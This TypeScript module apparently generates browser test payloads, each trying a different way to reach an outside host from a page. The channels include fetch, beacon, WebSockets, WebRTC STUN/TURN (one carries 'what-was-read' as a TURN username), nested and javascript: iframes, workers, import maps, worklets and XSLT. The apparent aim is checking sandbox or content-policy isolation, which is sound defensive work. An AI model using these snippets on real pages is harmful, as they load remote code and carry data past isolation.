import { type Channels, dataPage, js, literal, plain, quoted } from './fragment'
import type { Outside } from './naming'

export const requests: Channels = plain({
  fetch: (to) => js(`await fetch('${to.http()}')`),
  fetch_nocors: (to) => js(`await fetch('${to.http()}',{mode:'no-cors'})`),
  fetch_keepalive: (to) =>
    js(`await fetch('${to.http()}',{mode:'no-cors',method:'POST',body:'x',keepalive:true})`),
  fetchLater: (to) => js(`fetchLater('${to.https()}',{activateAfter:0})`),
  xhr: (to) => js(`const x=new XMLHttpRequest();x.open('GET','${to.http()}');x.send()`),
  beacon: (to) => js(`navigator.sendBeacon('${to.http()}','x')`),
  websocket: (to) => js(`new WebSocket('${to.ws}')`),
  websocketstream: (to) => js(`await new WebSocketStream('${to.ws}').opened`),
  eventsource: (to) => js(`new EventSource('${to.http()}')`),
  paymentrequest: (to) =>
    js(`const total={label:'x',amount:{currency:'USD',value:'1'}}
      await new PaymentRequest([{supportedMethods:'${to.https()}'}],{total}).canMakePayment()`),
  fedcm: (to) =>
    js(
      `await navigator.credentials.get({identity:{providers:[{configURL:'${to.https('x.json')}',clientId:'x'}]}})`,
    ),
}).concat(
  plain({ webtransport: (to) => js(`await new WebTransport('https://${to.udp}/x').ready`) }, { udp: true }),
)

const SERVER = (to: Outside) => `{urls:'stun:${to.udp}'}`

/** Looks for ways to a peer by way of a server. */
function peer(server: string, peerOf = 'RTCPeerConnection'): string {
  return `const p=new ${peerOf}({iceServers:[${server}]});globalThis.kept=p
    p.createDataChannel('x');await p.setLocalDescription(await p.createOffer())`
}

const stun = (to: Outside) => js(peer(SERVER(to)))

/** An offer of somebody's who wants to be called at that port of this machine. */
function remote(to: Outside): string {
  return `const [a,b]=[new RTCPeerConnection(),new RTCPeerConnection()];globalThis.kept=[a,b]
    a.createDataChannel('x');await a.setLocalDescription(await a.createOffer())
    await b.setRemoteDescription(a.localDescription);await b.setLocalDescription(await b.createAnswer())
    await a.setRemoteDescription(b.localDescription)
    for(const ip of ['127.0.0.1','10.99.0.1'])
      await a.addIceCandidate({candidate:'candidate:1 1 udp 2122260223 '+ip+' ${to.udpPort} typ host',sdpMid:'0'})`
}

export const peers: Channels = plain(
  {
    rtc_stun: stun,
    rtc_turn_user: (to) => js(peer(`{urls:'turn:${to.udp}',username:'what-was-read',credential:'x'}`)),
    rtc_remote_cand: (to) => js(remote(to)),
    rtc_nested_srcdoc: (to) => `<iframe srcdoc="${quoted(stun(to))}"></iframe>`,
    rtc_docopen: (to) =>
      js(`const f=document.createElement('iframe');document.body.append(f)
        f.contentDocument.open();f.contentDocument.write(${literal(stun(to))});f.contentDocument.close()`),
    rtc_jsurl_frame: (to) =>
      `<iframe src="javascript:void (async()=>{${quoted(peer(SERVER(to)).replaceAll('\n', ';'))}})()"></iframe>`,
    rtc_nested_blank: (to) =>
      js(`const f=document.createElement('iframe');document.body.append(f)
        ${peer(SERVER(to), 'f.contentWindow.RTCPeerConnection')}`),
    rtc_nested_data: (to) => `<iframe src="${dataPage(stun(to))}"></iframe>`,
  },
  { udp: true },
).concat(
  plain(
    {
      rtc_self_nav_blob: (to) =>
        js(`location=URL.createObjectURL(new Blob([${literal(stun(to))}],{type:'text/html'}))`),
      rtc_self_nav_data: (to) => js(`location=${literal(dataPage(stun(to)))}`),
    },
    { udp: true, alone: true },
  ),
)

const worker = (code: string) => `URL.createObjectURL(new Blob([${literal(code)}],{type:'text/javascript'}))`

export const code: Channels = plain({
  worker_blob: (to) => js(`new Worker(${worker(`fetch('${to.http()}',{mode:'no-cors'})`)})`),
  worker_data: (to) =>
    js(`new Worker(${literal(`data:text/javascript,fetch('${to.http()}',{mode:'no-cors'})`)})`),
  worker_import: (to) => js(`new Worker(${worker(`importScripts('${to.http('x.js')}')`)})`),
  worker_ws: (to) => js(`new Worker(${worker(`new WebSocket('${to.ws}')`)})`),
  sharedworker: (to) =>
    js(`new SharedWorker(${literal(`data:text/javascript,fetch('${to.http()}',{mode:'no-cors'})`)})`),
  dyn_import: (to) => js(`await import('${to.http('x.js')}')`),
  // Before any other module of its page: a list that comes later is heeded by some browsers only.
  importmap: (to) =>
    `<script type="importmap">{"imports":{"outside":"${to.http('x.js')}"}}</script><script type="module">import 'outside'</script>`,
  css_paint_worklet: (to) => js(`await CSS.paintWorklet.addModule('${to.http('x.js')}')`),
  audio_worklet: (to) => js(`await new AudioContext().audioWorklet.addModule('${to.http('x.js')}')`),
  fontface_api: (to) => js(`await new FontFace('x','url(${to.http('x.woff2')})').load()`),
  mediasession: (to) =>
    js(`navigator.mediaSession.metadata=new MediaMetadata({title:'x',artwork:[{src:'${to.http('x.png')}'}]})
      navigator.mediaSession.playbackState='playing'`),
  notification_icon: (to) =>
    js(`new Notification('x',{icon:'${to.http('x.png')}',image:'${to.http('x.png')}'})`),
  xslt: (to) =>
    js(`const x=new DOMParser().parseFromString(${literal(sheet(to))},'text/xml'),p=new XSLTProcessor
      p.importStylesheet(x);document.body.append(p.transformToFragment(x,document))`),
  script_src: (to) => `<script src="${to.http('x.js')}"></script>`,
})

function sheet(to: Outside): string {
  const inside = `<img xmlns='http://www.w3.org/1999/xhtml' src='${to.http('x.png')}'/>`
  return `<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>${inside}</xsl:template></xsl:stylesheet>`
}
